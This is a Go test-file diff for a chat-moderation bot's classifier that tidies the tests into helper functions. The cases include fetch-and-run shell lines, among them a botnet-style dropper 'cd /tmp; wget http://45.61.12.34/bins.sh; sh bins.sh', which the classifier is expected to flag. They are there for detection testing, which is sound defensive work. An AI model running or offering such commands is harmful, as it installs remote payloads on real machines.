@@ -24,8 +24,7 @@ func TestFileDrops(t *testing.T) {
 		{"installer https://www.python.org/ftp/python/3.12.1/python-3.12.1-amd64.exe", bot.Allow},
 	}
 	for _, tc := range tests {
-		m := bot.Message{ID: "x", Platform: bot.Discord, Chat: "c", User: "u", Time: t0, Text: tc.text, MemberSince: t0.AddDate(-1, 0, 0)}
-		v := c.Classify(&m, bot.Hints{}).Verdict
+		v := judgeText(c, bot.Discord, tc.text).Verdict
 		if v.Level != tc.want {
 			t.Errorf("%q: %s (%.2f) %v, want %s", tc.text, v.Level, v.Score, v.Reasons, tc.want)
 		}
@@ -38,22 +37,11 @@ func TestFileDrops(t *testing.T) {
 // as botnets serve theirs to devices without TLS, it still warns.
 func TestInstallScripts(t *testing.T) {
 	t.Parallel()
-	c := bot.NewClassifier(bot.ClassifierConfig{})
-	tests := []struct {
-		text    string
-		flagged bool
-	}{
+	checkFlagged(t, []flagCase{
 		{"install with curl -fsSL https://get.example-tool.dev/install.sh | sh", false},
 		{"curl -sSf https://toolchain.example.org/init.sh | bash", false},
 		{"wget http://example-tool.dev/install.sh; sh install.sh", true},
 		{"cd /tmp; wget http://45.61.12.34/bins.sh; sh bins.sh", true},
 		{"https://45.61.12.34/x.sh", true},
-	}
-	for _, tc := range tests {
-		m := bot.Message{ID: "x", Platform: bot.Telegram, Chat: "c", User: "u", Time: t0, Text: tc.text, MemberSince: t0.AddDate(-1, 0, 0)}
-		v := c.Classify(&m, bot.Hints{}).Verdict
-		if (v.Level != bot.Allow) != tc.flagged {
-			t.Errorf("%q: %s (%.2f) %v, want flagged %v", tc.text, v.Level, v.Score, v.Reasons, tc.flagged)
-		}
-	}
+	})
 }
